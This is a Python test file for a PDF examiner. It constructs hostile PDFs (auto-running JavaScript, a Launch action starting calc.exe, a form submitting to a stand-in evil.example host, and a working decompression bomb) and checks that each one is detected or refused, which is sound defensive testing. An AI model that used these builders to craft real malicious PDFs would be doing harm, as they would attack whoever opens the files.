"""PDFs from outside: what each kind of hostile one comes to."""

from __future__ import annotations

import io
import resource
import struct
import zlib
from collections.abc import Callable

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from tests.integration.disclosure.conftest import SCAN
from vault.foreign_pdf.examining import MEMORY_MIB, Examined, examine

GIB = 1 << 30


def made(change: Callable[[pikepdf.Pdf], object]) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    change(pdf)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def script_when_opened(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def script_by_name(pdf: pikepdf.Pdf) -> None:
    act = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), act])))


def script_deep_within(pdf: pikepdf.Pdf) -> None:
    act = Dictionary(S=Name.JavaScript, JS=String("1"))
    pdf.pages[0].Annots = Array([Dictionary(Subtype=Name.Link, A=Dictionary(Next=Array([act])))])


def program_started(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("calc.exe")))


def form_sent_away(pdf: pikepdf.Pdf) -> None:
    act = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=String("<xdp/>"), A=act)


@pytest.mark.parametrize(
    ("change", "active"),
    [
        (script_when_opened, {"script"}),
        (script_by_name, {"script"}),
        (script_deep_within, {"script"}),
        (program_started, {"action"}),
        (form_sent_away, {"action", "script"}),
    ],
)
def test_what_does_something_by_itself_is_found(
    change: Callable[[pikepdf.Pdf], object], active: set[str]
) -> None:
    assert examine(made(change)) == Examined(1, frozenset(active))


def test_a_plain_scan_is_found_plain() -> None:
    assert examine(SCAN) == Examined(1)
    assert examine(SCAN + b"\nPK\x03\x04<script>") == Examined(1)


@pytest.mark.parametrize("content", [b"", b"%PDF-1.7\n", b"%PDF-1.7\n" + b"[" * 100_000, SCAN[:99]])
def test_what_is_no_pdf_is_not_opened(content: bytes) -> None:
    assert examine(content).pages in {None, 0}


def bomb(size: int) -> bytes:
    """A small PDF whose stream of objects unfolds into `size` bytes."""
    places = b"1 0 2 50 3 100 "
    catalog = b"<</Type/Catalog/Pages 2 0 R>>".ljust(50)
    tree = b"<</Type/Pages/Kids[3 0 R]/Count 1>>".ljust(50)
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    squeeze = zlib.compressobj(9)
    begun = squeeze.compress(places + catalog + tree + page) + squeeze.flush(zlib.Z_FULL_FLUSH)
    block = squeeze.compress(b" " * (1 << 20)) + squeeze.flush(zlib.Z_FULL_FLUSH)
    data = begun + block * (size >> 20) + squeeze.flush()
    head = b"%PDF-1.7\n"
    objects = b"4 0 obj\n<</Type/ObjStm/N 3/First %d/Filter/FlateDecode/Length %d>>\nstream\n"
    body = objects % (len(places), len(data)) + data + b"\nendstream\nendobj\n"
    end = len(head) + len(body)
    rows = [(0, 0, 65535), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, len(head), 0), (1, end, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    xref = b"5 0 obj\n<</Type/XRef/Size 6/W[1 4 2]/Root 1 0 R/Length %d>>\nstream\n" % len(table)
    return head + body + xref + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % end


def test_a_file_that_unfolds_without_end_is_refused_and_costs_this_process_nothing() -> None:
    small = bomb(1 << 20)
    assert examine(small).pages == 1
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    hostile = bomb(2 * GIB)
    assert len(hostile) < 4_000_000
    assert examine(hostile).pages is None
    children = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    assert children < MEMORY_MIB * 1024
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 64 * 1024
